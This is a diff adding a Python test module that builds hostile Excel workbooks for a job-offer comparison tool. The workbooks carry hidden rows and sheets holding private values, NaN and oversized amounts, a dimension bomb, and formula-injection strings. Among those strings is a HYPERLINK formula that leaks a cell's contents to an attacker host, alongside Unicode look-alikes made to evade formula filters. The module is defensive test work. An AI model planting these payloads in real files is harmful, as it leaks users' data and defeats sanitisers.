@@ -1,0 +1,297 @@
+"""Hostile workbooks for the recruiter copy and the numbers read from a workbook.
+
+Each :class:`~bench.hostile.Case` builds one file from a freshly built example workbook
+(``base``) by editing its XML, and lists the commands checked to refuse it, with a fragment
+of the refusal (lower case).  How a command is run on a file: ``compare FILE``,
+``brief FILE``, ``share FILE -o OUT.xlsx`` (the default disclosure: target, currency, basis
+and location, all cached on the Recruiter sheet).
+
+- 11.7: a Recruiter field that is hidden (row, column, zero height, collapsed outline, the
+  whole sheet) or listed twice, and a disclosure switch listed twice: ``share`` only, the
+  other commands do not read those sheets.
+- 11.12: amounts beyond :data:`calculators.offer.MAX_AMOUNT`, NaN and infinity.  A salary
+  of 1e308 is refused by compare and brief; ``share`` with the default disclosure never
+  reads the salary (the Recruiter sheet's cached values are what it copies), so it is not
+  listed; with ``--include best_offer`` it refuses too (the test checks that separately).
+- 11.3 (the readers' own bound): a Market table that does not end within the rows the
+  brief reads.  The dimension bomb itself (``<dimension ref="A1:XFD1048576"/>`` and a cell
+  in the last row of every sheet) is :func:`dimension_bomb`; it is not a case here: the
+  readers read it in bounded memory and the input guard refuses it (its cases are in
+  :mod:`bench.hostile_guard`).
+
+:data:`FORMULA_TEXTS` (finding 11.13) are texts a spreadsheet would take for a formula;
+:func:`formula_location` puts one in the copied location.  ``share`` is not refused: it
+writes them inert (a leading apostrophe), which the tests check through LibreOffice's CSV
+export.
+"""
+
+from __future__ import annotations
+
+import re
+import zipfile
+from pathlib import Path
+
+from bench.hostile import Case, rewrite, sheet_part
+
+# --- XML edits ------------------------------------------------------------------------------
+
+
+def _xml(path: Path, title: str) -> tuple[str, str]:
+    """The part name and XML of the worksheet ``title``."""
+    part = sheet_part(path, title)
+    with zipfile.ZipFile(path) as zf:
+        return part, zf.read(part).decode("utf-8")
+
+
+def _edit(base: Path, folder: Path, file: str, title: str, *edits) -> Path:
+    """A copy of ``base`` whose sheet ``title`` went through ``edits`` (xml -> xml)."""
+    part, xml = _xml(base, title)
+    for edit in edits:
+        xml = edit(xml)
+    return rewrite(base, folder / file, replace={part: xml.encode("utf-8")})
+
+
+def _text(coord: str, text: str) -> str:
+    return f'<c r="{coord}" t="inlineStr"><is><t>{text}</t></is></c>'
+
+
+def _number(coord: str, value: str) -> str:
+    return f'<c r="{coord}"><v>{value}</v></c>'
+
+
+def value(coord: str, text: str):
+    """Set the cached value of the cell ``coord`` (a formula, if any, stays)."""
+    def edit(xml: str) -> str:
+        cell = re.compile(rf'<c r="{coord}"([^>]*?)(/>|>(.*?)</c>)')
+        found = cell.search(xml)
+        assert found is not None, coord
+        attrs = re.sub(r'\s+t="[^"]*"', "", found.group(1))
+        formula = re.search(r"<f[ >].*?</f>|<f/>|<f [^>]*/>", found.group(3) or "")
+        numeric = re.fullmatch(r"[-+]?[\d.eE+-]+|NaN|nan|inf|-inf|INF", text) is not None
+        kind = "" if numeric else ' t="str"'
+        body = (formula.group(0) if formula else "") + f"<v>{text}</v>"
+        return xml[:found.start()] + f'<c r="{coord}"{attrs}{kind}>{body}</c>' + xml[found.end():]
+    return edit
+
+
+def new_row(r: int, cells: str, attrs: str = ""):
+    """Insert row ``r`` (it must not exist) with ``cells``, in row order."""
+    def edit(xml: str) -> str:
+        assert f'<row r="{r}"' not in xml, r
+        row = f'<row r="{r}"{(" " + attrs) if attrs else ""}>{cells}</row>'
+        later = [m for m in re.finditer(r'<row r="(\d+)"', xml) if int(m.group(1)) > r]
+        cut = later[0].start() if later else xml.index("</sheetData>")
+        return xml[:cut] + row + xml[cut:]
+    return edit
+
+
+def row_attrs(r: int, attrs: str):
+    """Add attributes to the existing row ``r``."""
+    def edit(xml: str) -> str:
+        found = re.search(rf'<row r="{r}"', xml)
+        assert found is not None, r
+        return xml[:found.end()] + " " + attrs + xml[found.end():]
+    return edit
+
+
+def column_attrs(col: int, attrs: str):
+    """Add attributes to the ``<col>`` element that covers only column ``col``."""
+    def edit(xml: str) -> str:
+        found = re.search(rf'<col min="{col}" max="{col}"', xml)
+        assert found is not None, col
+        return xml[:found.end()] + " " + attrs + xml[found.end():]
+    return edit
+
+
+# --- the Recruiter sheet (11.7) ---------------------------------------------------------------
+# Its layout: title rows 1-2, the header on row 4, then one field per row from row 5: target
+# (A5/B5), currency, basis, location (A8/B8), offers_held, best_offer.  Row 3 is empty.
+
+RECRUITER = "Recruiter"
+PRIVATE = "99999999"  # the number the user hid from view
+
+
+def hidden_duplicate(base: Path, folder: Path) -> Path:
+    """The finding as reported: a hidden row above the visible one, with the same field key
+    and a private value (the old copy showed the hidden value)."""
+    return _edit(base, folder, "hidden-duplicate.xlsx", RECRUITER,
+                 new_row(3, _text("A3", "target") + _number("B3", PRIVATE), 'hidden="1"'))
+
+
+def visible_duplicate(base: Path, folder: Path) -> Path:
+    """The same field key twice, both visible: which one would the recruiter get?"""
+    return _edit(base, folder, "visible-duplicate.xlsx", RECRUITER,
+                 new_row(3, _text("A3", "Target") + _number("B3", PRIVATE)))
+
+
+def hidden_field_row(base: Path, folder: Path) -> Path:
+    """The location row itself hidden: the user does not see what would be sent."""
+    return _edit(base, folder, "hidden-field-row.xlsx", RECRUITER, row_attrs(8, 'hidden="1"'))
+
+
+def zero_height_row(base: Path, folder: Path) -> Path:
+    """The location row at zero height: hidden in all but name."""
+    return _edit(base, folder, "zero-height-row.xlsx", RECRUITER,
+                 row_attrs(8, 'ht="0" customHeight="1"'))
+
+
+def collapsed_outline(base: Path, folder: Path) -> Path:
+    """The field rows grouped in an outline collapsed at its summary row (row 11), the rows
+    themselves not marked hidden."""
+    edits = [row_attrs(r, 'outlineLevel="1"') for r in range(5, 11)]
+    edits.append(new_row(11, _text("A11", "summary"), 'collapsed="1"'))
+    return _edit(base, folder, "collapsed-outline.xlsx", RECRUITER, *edits)
+
+
+def hidden_value_column(base: Path, folder: Path) -> Path:
+    """Column B, the values, hidden."""
+    return _edit(base, folder, "hidden-value-column.xlsx", RECRUITER,
+                 column_attrs(2, 'hidden="1"'))
+
+
+def hidden_recruiter_sheet(base: Path, folder: Path) -> Path:
+    """The whole Recruiter sheet hidden."""
+    with zipfile.ZipFile(base) as zf:
+        wb = zf.read("xl/workbook.xml").decode("utf-8")
+    wb = wb.replace('<sheet name="Recruiter" ', '<sheet name="Recruiter" state="hidden" ', 1)
+    return rewrite(base, folder / "hidden-recruiter-sheet.xlsx",
+                   replace={"xl/workbook.xml": wb.encode("utf-8")})
+
+
+def duplicate_switch(base: Path, folder: Path) -> Path:
+    """A second disclosure switch for best_offer (Strategy K:L), switched on, below the block
+    (row 150): which switch holds?"""
+    return _edit(base, folder, "duplicate-switch.xlsx", "Strategy",
+                 new_row(150, _text("K150", "best_offer") + '<c r="L150" t="b"><v>1</v></c>'))
+
+
+# --- numbers (11.12) ------------------------------------------------------------------------
+# Offers: the first offer in column B, base_salary on row 5.  Params: the JPY rate in B15.
+# Strategy: walk_away in B9.  Market: the first data row is row 5, base in column F.
+
+
+def offers_cell(text: str, file: str, coord: str = "B5"):
+    def build(base: Path, folder: Path) -> Path:
+        return _edit(base, folder, file, "Offers", value(coord, text))
+    return build
+
+
+def params_cell(text: str, file: str, coord: str):
+    def build(base: Path, folder: Path) -> Path:
+        return _edit(base, folder, file, "Params", value(coord, text))
+    return build
+
+
+def strategy_cell(text: str, file: str, coord: str):
+    def build(base: Path, folder: Path) -> Path:
+        return _edit(base, folder, file, "Strategy", value(coord, text))
+    return build
+
+
+def market_cell(text: str, file: str, coord: str = "F5"):
+    def build(base: Path, folder: Path) -> Path:
+        return _edit(base, folder, file, "Market", value(coord, text))
+    return build
+
+
+def recruiter_cell(text: str, file: str, coord: str = "B5"):
+    def build(base: Path, folder: Path) -> Path:
+        return _edit(base, folder, file, RECRUITER, value(coord, text))
+    return build
+
+
+def endless_market(base: Path, folder: Path) -> Path:
+    """Market rows with no blank row before the last row the brief reads (20,000)."""
+    from addin.reader import BOUNDS
+
+    part, xml = _xml(base, "Market")
+    last = max(int(r) for r in re.findall(r'<row r="(\d+)"', xml))
+    rows = "".join(f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>Company Z</t></is></c>'
+                   f'<c r="F{r}"><v>100000</v></c><c r="I{r}"><v>100000</v></c></row>'
+                   for r in range(last + 1, BOUNDS["Market"][0] + 2))
+    cut = xml.index("</sheetData>")
+    xml = xml[:cut] + rows + xml[cut:]
+    return rewrite(base, folder / "endless-market.xlsx", replace={part: xml.encode("utf-8")})
+
+
+# --- the dimension bomb (11.3): read, not refused, by the readers --------------------------------
+
+READ_SHEETS = ("Offers", "Params", "Relocation", "Strategy", "Market", "Recruiter")
+
+
+def dimension_bomb(base: Path, folder: Path) -> Path:
+    """Every sheet the readers read declares ``A1:XFD1048576`` and holds one cell in the last
+    row and column (79 KB as reported; a reader trusting the dimension pads 17 billion
+    cells per sheet)."""
+    replace = {}
+    for title in READ_SHEETS:
+        part, xml = _xml(base, title)
+        xml = re.sub(r'<dimension ref="[^"]*"/>', '<dimension ref="A1:XFD1048576"/>', xml, count=1)
+        cut = xml.index("</sheetData>")
+        xml = xml[:cut] + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>' + xml[cut:]
+        replace[part] = xml.encode("utf-8")
+    return rewrite(base, folder / "dimension-bomb.xlsx", replace=replace)
+
+
+# --- formula text (11.13): made inert, not refused ------------------------------------------------
+
+FORMULA_TEXTS = (
+    '=HYPERLINK("http://attacker.example/?leak="&A1,"Tokyo")', "+1+1", "-2+3", "@SUM(A1:A9)",
+    "\tTokyo", "\rTokyo", "\nTokyo", "＝1+1", "＋1+1", "－2+3", "＠SUM(A1)", "﹦1+1",
+    "\u2212" + "2+3", "\u00a0=1+1", "\u200b=1+1", "\u200d+1", "\ufeff-1", "\u2060@A1",
+    "\u3000=1+1", "\u202f=1+1", "\u00a0\u200b\u200d＝1+1", "\u3164=1+1",
+)
+
+
+def formula_location(text: str, file: str = "formula-location.xlsx"):
+    """The copied location (Recruiter B8, cached) set to ``text``."""
+    escaped = (text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
+               .replace("\t", "&#9;").replace("\r", "&#13;").replace("\n", "&#10;"))
+    return recruiter_cell(escaped, file, "B8")
+
+
+BEYOND = "is beyond 1,000,000,000,000"
+NOT_FINITE = "must be a finite number"
+CASES: list[Case] = [
+    Case("hidden-duplicate", "11.7", hidden_duplicate,
+         "recruiter field target at recruiter!a3 is in a hidden row", ("share",)),
+    Case("visible-duplicate", "11.7", visible_duplicate,
+         "recruiter field target appears twice, at recruiter!a3 and recruiter!a5", ("share",)),
+    Case("hidden-field-row", "11.7", hidden_field_row,
+         "recruiter field location at recruiter!a8 is in a hidden row", ("share",)),
+    Case("zero-height-row", "11.7", zero_height_row,
+         "recruiter field location at recruiter!a8 is in a hidden row", ("share",)),
+    Case("collapsed-outline", "11.7", collapsed_outline,
+         "recruiter field target at recruiter!a5 is in a hidden row", ("share",)),
+    Case("hidden-value-column", "11.7", hidden_value_column,
+         "recruiter field target at recruiter!a5 is in a hidden column (b)", ("share",)),
+    Case("hidden-recruiter-sheet", "11.7", hidden_recruiter_sheet,
+         "the recruiter sheet is hidden", ("share",)),
+    Case("duplicate-switch", "11.7", duplicate_switch,
+         "disclosure switch best_offer appears twice, at strategy!k8 and strategy!k150",
+         ("share",)),
+    Case("salary-1e308", "11.12", offers_cell("1e308", "salary-1e308.xlsx"),
+         f"offer 1 (offers column b): base_salary {BEYOND}", ("compare", "brief")),
+    Case("salary-above-bound", "11.12", offers_cell("1000000000001", "salary-above-bound.xlsx"),
+         f"offer 1 (offers column b): base_salary {BEYOND}", ("compare", "brief")),
+    Case("salary-nan", "11.12", offers_cell("NaN", "salary-nan.xlsx"),
+         f"offer 1 (offers column b): base_salary {NOT_FINITE}", ("compare", "brief")),
+    Case("salary-infinity", "11.12", offers_cell("1E999", "salary-infinity.xlsx"),
+         f"offer 1 (offers column b): base_salary {NOT_FINITE}", ("compare", "brief")),
+    Case("sign-on-nan", "11.12", offers_cell("NaN", "sign-on-nan.xlsx", "B9"),
+         f"offer 1 (offers column b): sign_on {NOT_FINITE}", ("compare", "brief")),
+    Case("fx-rate-1e308", "11.12", params_cell("1e308", "fx-rate-1e308.xlsx", "B15"),
+         "is out of range; check the sizes of the amounts and fx rates", ("compare", "brief")),
+    Case("discount-rate-nan", "11.12", params_cell("NaN", "discount-rate-nan.xlsx", "B5"),
+         "params!b5 holds a number that is not finite", ("compare", "brief")),
+    Case("walk-away-1e308", "11.12", strategy_cell("1e308", "walk-away-1e308.xlsx", "B9"),
+         f"strategy input walk_away {BEYOND}", ("brief",)),
+    Case("market-nan", "11.12", market_cell("NaN", "market-nan.xlsx"),
+         "market!f5 holds a number that is not finite", ("brief",)),
+    Case("recruiter-target-1e308", "11.12", recruiter_cell("1e308", "recruiter-target.xlsx"),
+         f"the field target {BEYOND}", ("share",)),
+    Case("recruiter-target-nan", "11.12", recruiter_cell("NaN", "recruiter-target-nan.xlsx"),
+         "recruiter!b5 holds a number that is not finite", ("share",)),
+    Case("endless-market", "11.3", endless_market, "market sheet's table runs past row 20,000",
+         ("brief",)),
+]
